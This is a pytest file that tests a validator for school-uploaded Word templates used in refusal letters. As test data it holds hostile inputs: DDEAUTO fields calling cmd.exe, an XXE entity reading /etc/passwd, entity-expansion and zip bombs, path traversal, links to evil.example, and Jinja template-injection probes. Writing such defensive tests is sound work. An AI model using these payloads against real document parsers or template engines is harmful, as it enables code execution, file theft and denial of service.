"""A template that a school sends: what is refused, with what words, and what is taken."""

import time
from dataclasses import replace
from io import BytesIO
from random import Random
from zipfile import ZIP_STORED

import docx
import pytest
from docx.document import Document

from documents.catalogue import KINDS
from documents.render import render_docx
from documents.school_template import differences, judge_template, words_of
from documents.template_file import Flaw
from tests.documents.office_files import (
    built_in,
    in_own_colour,
    repacked,
    replacing,
    with_line,
    with_part,
    with_relation,
    with_xml,
    written,
)
from tests.documents.reading import docx_text, same

REFUSAL = KINDS["refusal"]
P = "<w:p><w:r>%s</w:r></w:p>"
ROW = "<w:tbl><w:tr><w:tc>%s</w:tc></w:tr></w:tbl>"
# With so much that cannot be packed that the rest passes for an ordinary part.
MANY_ELEMENTS = "<w:a/>" * 700_000 + f'<w:a b="{Random(1).randbytes(50_000).hex()}"/>'  # noqa: S311
ENTITY = '<!DOCTYPE w [<!ENTITY a "b">]>'


def flaws(content: bytes, kind: str = "refusal") -> dict[Flaw, set[str]]:
    found: dict[Flaw, set[str]] = {}
    for finding in judge_template(KINDS[kind], content).findings:
        found.setdefault(finding.flaw, set()).add(finding.what)
    return found


def field(code: str) -> str:
    return P % f'<w:fldChar w:fldCharType="begin"/><w:instrText>{code}</w:instrText>'


@pytest.mark.parametrize("kind", KINDS.values(), ids=lambda kind: kind.name)
def test_built_in_template_is_one_that_would_be_taken(kind):
    assert judge_template(kind, built_in(kind.name)).findings == ()
    assert differences(kind, built_in(kind.name)).lost == ()


@pytest.mark.parametrize(
    ("content", "flaw"),
    [
        (b"", Flaw.NOT_DOCX),
        (b"%PDF-1.7", Flaw.NOT_DOCX),
        (b"PK\x03\x04 and then nothing of a package", Flaw.NOT_DOCX),
        (b"MZ" + built_in("refusal"), Flaw.NOT_DOCX),
        (built_in("refusal")[:-400], Flaw.NOT_DOCX),
        (built_in("refusal") + bytes(2 * 1024 * 1024), Flaw.TOO_BIG),
        (with_part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), Flaw.MACRO),
        (with_part("word/activeX/a.xml", "application/vnd.ms-office.activeX+xml"), Flaw.MACRO),
        (with_part("customUI/ui.xml", "application/xml+customUI"), Flaw.MACRO),
        (with_part("word/embeddings/a.bin", "application/octet-stream"), Flaw.EMBEDDED),
        (with_part("word/a.html", "text/html"), Flaw.PART),
        (with_part("word/a.svg", "image/svg+xml", b"<svg/>"), Flaw.PART),
        (with_part("word/a.emf", "image/x-emf"), Flaw.PART),
        (with_relation("attachedTemplate", "https://evil.example/a.dotm"), Flaw.EXTERNAL),
        (with_relation("hyperlink", "https://evil.example/"), Flaw.EXTERNAL),
        (with_relation("image", "file://server/share/a.png"), Flaw.EXTERNAL),
        (with_relation("aFChunk", "styles.xml", ""), Flaw.EMBEDDED),
        (with_relation("oleObject", "styles.xml", ""), Flaw.EMBEDDED),
        (with_relation("subDocument", "styles.xml", ""), Flaw.PART),
        (with_relation("image", "nothing.png", ""), Flaw.BROKEN),
        (with_xml('<w:altChunk r:id="rId1"/>'), Flaw.EMBEDDED),
        (with_xml(P % "<w:object/>"), Flaw.EMBEDDED),
        (with_xml(P % '<w:pict><v:shape xmlns:v="urn:v" src="//evil/a"/></w:pict>'), Flaw.EXTERNAL),
        (with_xml(P % "<w:rPr><w:vanish/></w:rPr><w:t>тайно</w:t>"), Flaw.HIDDEN),
        (with_xml("<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr></w:tr></w:tbl>"), Flaw.HIDDEN),
        (with_xml("<w:p><w:ins><w:r><w:t>исправлено</w:t></w:r></w:ins></w:p>"), Flaw.TRACKED),
        (with_xml('<w:sdt><w:sdtPr><w:dataBinding w:xpath="a"/></w:sdtPr></w:sdt>'), Flaw.EXTERNAL),
        (with_xml("<!-- {{ addressee }} -->"), Flaw.XML),
        (with_xml(field("DDEAUTO c:\\\\cmd.exe")), Flaw.FIELD),
        (with_xml(field('INCLUDEPICTURE "https://evil.example/a.png"')), Flaw.FIELD),
        (with_xml(field('INCLUDETEXT "c:\\\\secret.docx"')), Flaw.FIELD),
        (with_xml(field("MACROBUTTON Run")), Flaw.FIELD),
        (with_xml(field("INCLUDE</w:instrText><w:instrText>TEXT a")), Flaw.FIELD),
        (with_xml('<w:p><w:fldSimple w:instr="DDE a b"/></w:p>'), Flaw.FIELD),
        (with_xml("<w:p/>" * 5_001), Flaw.TOO_LONG),
    ],
)
def test_file_that_could_do_harm_is_refused(content: bytes, flaw: Flaw):
    assert flaw in flaws(content)


def test_document_with_macros_is_no_template():
    told = "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = replacing(told, "vnd.ms-word.document.macroEnabled.main+xml")
    assert set(flaws(repacked(built_in("refusal"), {"[Content_Types].xml": macro}))) == {Flaw.MACRO}


def test_fields_that_number_the_pages_are_taken():
    assert flaws(with_xml(field(" PAGE \\* MERGEFORMAT ") + field("NUMPAGES"))) == {}


@pytest.mark.parametrize(
    "prologue",
    [
        ENTITY,
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<?xml-stylesheet href="https://evil.example/a.xsl"?>',
        '<!DOCTYPE w SYSTEM "https://evil.example/a.dtd">',
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ],
)
@pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml", "[Content_Types].xml"])
def test_prologue_with_more_than_a_version_is_refused_in_every_part(name: str, prologue: str):
    head = built_in("refusal")
    content = repacked(head, {name: lambda old: old.replace(b"?>", b"?>" + prologue.encode(), 1)})
    assert set(flaws(content)) == {Flaw.XML}


@pytest.mark.parametrize("encoding", ["utf-16", "utf-7", "koi8-r"])
def test_document_type_does_not_hide_in_another_encoding(encoding: str):
    def change(old: bytes) -> bytes:
        text = old.decode().replace("UTF-8", encoding, 1).replace("?>", f"?>{ENTITY}", 1)
        return text.encode(encoding, "ignore")

    assert set(flaws(repacked(built_in("refusal"), {"word/document.xml": change}))) == {Flaw.XML}


@pytest.mark.parametrize(
    "added",
    [
        {"word/bomb.xml": b"<a/>" + bytes(3_000_000)},
        {f"word/{number}.xml": b"<a/>" for number in range(10_000)},
        {"word/media/big.png": bytes(range(256)) * 65_536},
        {"../outside.xml": b"<a/>"},
        {"WORD/document.xml": b"<a/>"},
        {"word\\strange.xml": b"<a/>"},
    ],
    ids=["bomb", "10,000 entries", "6 MB", "outside", "twice", "backslash"],
)
def test_package_is_judged_before_anything_in_it_is_read(added: dict[str, bytes]):
    content = repacked(built_in("refusal"), added=added)
    assert set(flaws(content)) <= {Flaw.PACKED, Flaw.TOO_BIG}
    assert flaws(content)


def test_size_that_the_package_lies_about_is_not_unpacked():
    """The directory says 4 bytes, what is packed is 3 MB."""
    content = repacked(built_in("refusal"), added={"word/bomb.xml": bytes(3_000_000)})
    true, told = (3_000_000).to_bytes(4, "little"), (4).to_bytes(4, "little")
    assert set(flaws(content.replace(true, told))) == {Flaw.NOT_DOCX}


@pytest.mark.parametrize(
    ("text", "flaw"),
    [
        ("{{ ''.__class__ }}", Flaw.FORBIDDEN),
        ("{{ addressee.__class__ }}", Flaw.FORBIDDEN),
        ("{{ addressee|safe }}", Flaw.FORBIDDEN),
        ("{{ addressee() }}", Flaw.FORBIDDEN),
        ("{{ addressee ~ citizen }}", Flaw.FORBIDDEN),
        ("{{ grounds[0] }}", Flaw.FORBIDDEN),
        ("{{ 7*7 }}", Flaw.FORBIDDEN),
        ("{{ 'слово' }}", Flaw.FORBIDDEN),
        ("{% for x in ().__class__ %}{% endfor %}", Flaw.FORBIDDEN),
        ("{% for x in range(9) %}{% endfor %}", Flaw.FORBIDDEN),
        ("{% for x in grounds if x %}{% endfor %}", Flaw.FORBIDDEN),
        ("{% for x in grounds %}{% for y in grounds %}{% endfor %}{% endfor %}", Flaw.FORBIDDEN),
        ("{% for x in grounds recursive %}{% endfor %}", Flaw.FORBIDDEN),
        ("{% for addressee in grounds %}{% endfor %}", Flaw.FORBIDDEN),
        ("{% for x, y in grounds %}{% endfor %}", Flaw.FORBIDDEN),
        ("{% if addressee == citizen %}{% endif %}", Flaw.FORBIDDEN),
        ("{% if not addressee %}{% endif %}", Flaw.FORBIDDEN),
        ("{% if citizen %}" * 5 + "{% endif %}" * 5, Flaw.FORBIDDEN),
        ("{% set x = 1 %}", Flaw.SYNTAX),
        ("{% import 'a' as a %}", Flaw.SYNTAX),
        ("{% include 'a' %}", Flaw.SYNTAX),
        ("{% macro a() %}{% endmacro %}", Flaw.SYNTAX),
        ("{% raw %}{{ a }}{% endraw %}", Flaw.SYNTAX),
        ("{%- if addressee -%}{% endif %}", Flaw.SYNTAX),
        ("{# тайно #}", Flaw.SYNTAX),
        ("{{ addressee", Flaw.SYNTAX),
        ("{{ {{ addressee }} }}", Flaw.SYNTAX),
        ("{{p addressee }}", Flaw.SYNTAX),
        ("{{r addressee }}", Flaw.SYNTAX),
        ("{% colspan addressee %}", Flaw.SYNTAX),
        ("{% cellbg addressee %}", Flaw.SYNTAX),
        ("{% if addressee %}", Flaw.SYNTAX),
        ("{% endfor %}", Flaw.SYNTAX),
        ("{_{ addressee }_}", Flaw.SYNTAX),
        ("текст {%p if addressee %}", Flaw.PLACE),
        ("{{ grounds }}", Flaw.MISUSED),
        ("{% for x in grounds %}{{ x }}{% endfor %}", Flaw.MISUSED),
        ("{% for x in addressee %}{{ x }}{% endfor %}", Flaw.MISUSED),
        ("{{ adressee }}", Flaw.UNKNOWN),
        ("{% for x in grounds %}{{ x.txt }}{% endfor %}", Flaw.UNKNOWN),
        ("{{ loop }}", Flaw.UNKNOWN),
        ("{{ self }}", Flaw.UNKNOWN),
        ("{% if a %}{% endif %}", Flaw.UNKNOWN),
    ],
)
def test_whatever_is_no_word_loop_or_question_is_refused(text: str, flaw: Flaw):
    assert flaw in flaws(with_line(text))


def test_unknown_word_is_named_with_its_paragraph():
    (finding,) = judge_template(REFUSAL, with_line("Кому: {{ adressee }}")).findings
    assert (finding.what, finding.near) == ("adressee", "Кому: {{ adressee }}")


def test_template_of_another_kind_is_told_by_its_words():
    found = flaws(built_in("consent"))
    assert "passport_number" in found[Flaw.UNKNOWN]
    assert {"grounds.text", "signatory_name"} <= found[Flaw.MISSING]


@pytest.mark.clause("FRM-2")
@pytest.mark.parametrize("path", words_of(REFUSAL))
def test_word_that_a_form_would_lose_is_named(path: str):
    written_as = path.rpartition(".")[2]

    def without(document: Document) -> None:
        for paragraph in _all_paragraphs(document):
            for run in paragraph.runs:
                for name in (f"{{{{ {path} }}}}", f"{{{{ ground.{written_as} }}}}"):
                    run.text = run.text.replace(name, "")
                if path == "school_lines":
                    run.text = run.text.replace("{{ line }}", "")

    assert flaws(written("refusal", without)) == {Flaw.MISSING: {path}}


@pytest.mark.parametrize(
    "condition", ["citizen", "grounds"], ids=["of another word", "of another list"]
)
def test_word_that_is_printed_only_sometimes_is_missing(condition: str):
    def change(document: Document) -> None:
        for paragraph in _all_paragraphs(document):
            if "{{ addressee }}" in paragraph.text:
                paragraph.runs[0].text = f"{{% if {condition} %}}{{{{ addressee }}}}{{% endif %}}"

    assert flaws(written("refusal", change)) == {Flaw.MISSING: {"addressee"}}


def test_placeholder_that_word_has_split_over_runs_is_read():
    def change(document: Document) -> None:
        for paragraph in _all_paragraphs(document):
            if "{{ addressee }}" in paragraph.text:
                paragraph.runs[0].text = ""
                for piece in ("{", "{ ", "addr", "es", "see }", "}"):
                    paragraph.add_run(piece)

    content = written("refusal", change)
    assert flaws(content) == {}
    assert "Образцовой Марии Петровне" in docx_text(render_docx(REFUSAL.example, content))


def test_placeholder_in_the_header_counts_and_is_filled_in():
    def change(document: Document) -> None:
        for paragraph in _all_paragraphs(document):
            if "{{ addressee }}" in paragraph.text:
                paragraph.runs[0].text = ""
        document.sections[0].header.paragraphs[0].text = "Кому: {{ addressee }}"

    content = written("refusal", change)
    assert flaws(content) == {}
    made = docx.Document(BytesIO(render_docx(REFUSAL.example, content)))
    assert made.sections[0].header.paragraphs[0].text == "Кому: Образцовой Марии Петровне"


@pytest.mark.parametrize("story", ["first_page_header", "even_page_footer"])
def test_word_in_a_header_of_pages_that_may_not_be_there_is_missing(story: str):
    def change(document: Document) -> None:
        for paragraph in _all_paragraphs(document):
            if "{{ addressee }}" in paragraph.text:
                paragraph.runs[0].text = ""
        section = document.sections[0]
        getattr(section, story).paragraphs[0].text = "{{ addressee }}"

    assert flaws(written("refusal", change)) == {Flaw.MISSING: {"addressee"}}


def test_text_box_may_repeat_its_text_for_old_programs_and_say_no_more():
    box = P % "<w:t>{{ %s }}</w:t>"
    pair = (
        '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/'
        'markup-compatibility/2006"><mc:Choice Requires="wps">%s</mc:Choice>'
        "<mc:Fallback>%s</mc:Fallback></mc:AlternateContent></w:r></w:p>"
    )
    same_text = with_xml(pair % (box % "addressee", box % "addressee"))
    assert flaws(same_text) == {}
    more = with_xml(pair % (box % "addressee", box % "citizen"))
    assert flaws(more) == {Flaw.PLACE: {"{{ citizen }}"}}


@pytest.mark.parametrize("part", ["header", "footer"])
def test_header_and_footer_are_judged_like_the_text(part: str):
    def change(document: Document) -> None:
        getattr(document.sections[0], part).paragraphs[0].text = "{{ ''.__class__ }}"

    assert Flaw.FORBIDDEN in flaws(written("refusal", change))


@pytest.mark.parametrize(
    "content",
    [
        written("refusal", lambda document: setattr(document.core_properties, "title", "{{ a }}")),
        with_xml('<w:p w:rsidR="{{ addressee }}"/>'),
        with_xml("<w:p>{{ addressee }}</w:p>"),
        with_xml(P % "<w:delInstrText>{{ addressee }}</w:delInstrText>"),
    ],
    ids=["title", "attribute", "outside a run", "another element"],
)
def test_placeholder_outside_the_text_is_refused(content: bytes):
    assert Flaw.PLACE in flaws(content)


def test_question_that_breaks_the_document_when_answered_no_is_refused():
    """docxtpl would mend the broken XML by leaving text out."""
    opened = P % "<w:t>{% if explained %}</w:t>"
    closed = P % "<w:t>{% endif %}</w:t>"
    begin, end = (text.replace("explained", "addressee") for text in (opened, closed))
    table = f"<w:tbl><w:tblGrid/><w:tr><w:tc>{begin}</w:tc></w:tr></w:tbl>{end}"
    assert set(flaws(with_xml(table))) == {Flaw.BROKEN}


def test_cell_that_may_be_left_without_a_paragraph_is_refused():
    """No office program opens such a file."""
    lines = ("{%p if addressee %}", "текст", "{%p endif %}")
    cell = "".join(P % f"<w:t>{line}</w:t>" for line in lines)
    table = f"<w:tbl><w:tblGrid/><w:tr><w:tc>{cell}</w:tc></w:tr></w:tbl><w:p/>"
    assert set(flaws(with_xml(table))) == {Flaw.BROKEN}


def test_school_changes_the_look_and_the_words_stay():
    content = in_own_colour()
    assert flaws(content) == {}
    told = differences(REFUSAL, content)
    assert (told.lost, told.added) == ((), ("Бланк школы",))
    own, standard = (render_docx(REFUSAL.example, each) for each in (content, None))
    assert same(docx_text(own)) == same(docx_text(standard))


def test_lost_sentence_of_the_form_is_shown_as_a_difference():
    def change(document: Document) -> None:
        for paragraph in document.paragraphs:
            if paragraph.text == "Причина отказа:":
                paragraph.runs[0].text = "Почему:"

    told = differences(REFUSAL, written("refusal", change))
    assert (told.lost, told.added) == (("Причина отказа:",), ("Почему:",))


def test_what_people_type_is_not_run_by_a_schools_template():
    hostile = replace(REFUSAL.example, addressee="{{ 7*7 }} {% if %} <b>&")
    assert "{{ 7*7 }} {% if %} <b>&" in docx_text(render_docx(hostile, in_own_colour()))


@pytest.mark.parametrize(
    "content",
    [
        with_xml('<w:p w:rsidR="1"/>' * 2_900),
        with_xml(P % "<w:t/>" * 900),
        with_line("{{ addressee }}" * 400),
        with_line("{{" * 20_000),
        with_xml(P % ("<w:rPr><w:vanish/></w:rPr>" * 15_000)),
        with_xml(ROW % (P % f"<w:t>{'{%tr if a %}' * 30_000}</w:t>")),
        repacked(
            built_in("refusal"),
            {"word/styles.xml": replacing("<w:latent", f"{MANY_ELEMENTS}<w:latent")},
        ),
        with_line("{% if addressee %}" * 4 + "х" * 300_000 + "{% endif %}" * 4),
    ],
    ids=[
        "empty paragraphs",
        "empty texts",
        "placeholders",
        "braces",
        "hidden",
        "rows",
        "elements",
        "long text",
    ],
)
def test_judging_is_over_in_seconds_of_work(content: bytes):
    started = time.thread_time()
    judge_template(REFUSAL, content)
    assert time.thread_time() - started < 10


def _all_paragraphs(document: Document) -> list[docx.text.paragraph.Paragraph]:
    cells = (cell for table in document.tables for row in table.rows for cell in row.cells)
    return [*document.paragraphs, *(each for cell in cells for each in cell.paragraphs)]


def test_package_may_be_stored_without_compression():
    assert flaws(repacked(built_in("refusal"), method=ZIP_STORED)) == {}
